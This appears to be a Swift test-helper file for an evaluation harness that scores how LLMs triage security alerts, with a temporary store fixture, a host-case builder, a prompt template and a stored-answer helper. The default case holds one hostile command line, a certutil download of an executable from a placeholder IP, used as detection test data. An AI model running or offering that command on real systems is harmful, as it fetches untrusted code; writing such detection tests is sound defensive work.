import Foundation
import StubTestSupport
import TriageEval
@testable import TriageEvalStore

/// A store on a fresh temporary file; the directory is removed when the fixture goes away.
final class TemporaryStore: Sendable {
    let directory: URL
    let path: String
    let store: Store

    init() throws {
        directory = Scratch.url("triage-eval-store")
        path = directory.appendingPathComponent("store.sqlite").path
        store = try Store(path: path)
    }

    deinit {
        try? FileManager.default.removeItem(at: directory)
    }
}

/// A structured host case; `command` makes otherwise equal cases differ.
func hostCase(
    _ id: String, label: Label = .tp, scenario: String = "certutil", tags: [String] = [],
    command: String = "certutil.exe -urlcache -f http://203.0.113.7/a.exe"
) -> TriageCase {
    TriageCase(
        id: id, label: label, scenario: scenario, tags: tags, entity: Entity(type: .host, name: "WS-0001"),
        alertCount: 3, timeWindowMinutes: 5, maxRiskScore: 73, rules: ["Suspicious CertUtil Commands"], commandLines: [command]
    )
}

/// The text of a small host prompt file; `extra` changes the template without changing id or version.
func promptText(id: String = "host-triage", version: String = "v1", extra: String = "") -> String {
    """
    ---
    id: \(id)
    version: \(version)
    entity: host
    output:
      format: dissect
      pattern: "verdict=%{verdict} confidence=%{confidence} summary=%{summary}"
      verdicts: [TP, FP, SUSPICIOUS]
    decision:
      alert_verdicts: [TP, SUSPICIOUS]
      verdict_case: ignore
      min_confidence: 0.7
    ---
    Host {{host_name}} ran: {{cmdlines_str}}.\(extra) Answer: verdict=<TP|FP|SUSPICIOUS> confidence=<0.0-1.0> summary=<reason>

    """
}

func parsePrompt(_ text: String, file: String = "prompts/host-triage/v1.prompt") throws -> PromptVersion {
    try PromptFileParser.parse(text, file: file, defaults: AlertPolicy())
}

/// An answered evaluation as the engine would store it.
func answered(_ response: String, verdict: String = "TP", confidence: Double = 0.9, alert: Bool = true, latencyMs: Double = 12.5) -> Evaluation {
    let parsed = ParsedAnswer(
        status: .ok, rawVerdict: verdict, verdict: verdict, rawConfidence: String(confidence), confidence: confidence, summary: "because"
    )
    return Evaluation(
        response: response, strict: parsed, lenient: parsed, alert: alert, lenientAlert: alert, inputTokens: 120, outputTokens: 14,
        latencyMs: latencyMs
    )
}
